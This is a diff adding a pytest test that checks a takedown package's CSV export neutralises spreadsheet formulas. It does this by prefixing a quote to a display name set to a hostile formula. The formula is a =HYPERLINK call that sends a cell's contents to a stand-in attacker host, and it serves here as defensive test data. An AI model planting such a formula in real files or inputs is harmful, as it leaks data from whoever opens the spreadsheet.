@@ -81,3 +81,17 @@ def test_without_any_template_the_package_is_refused(package_request, supervisor
     with pytest.raises(Conflict) as refused:
         takedown_package_build(takedown=package_request, user=supervisor)
     assert refused.value.code == "no_letter_template"
+
+
+def test_package_csv_guards_a_cell_a_spreadsheet_would_run(package_request, supervisor):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    account = package_request.accounts_in_order[1]
+    account.display_name = hostile
+    account.save(update_fields=["display_name"])
+
+    archive = _zip(takedown_package_build(takedown=package_request, user=supervisor))
+    text = archive.read(f"{package_request.reference}/accounts.csv").decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+
+    assert rows[1]["display_name"] == "'" + hostile
+    assert rows[0]["display_name"] == URDU_NAME  # ordinary text is left as it is
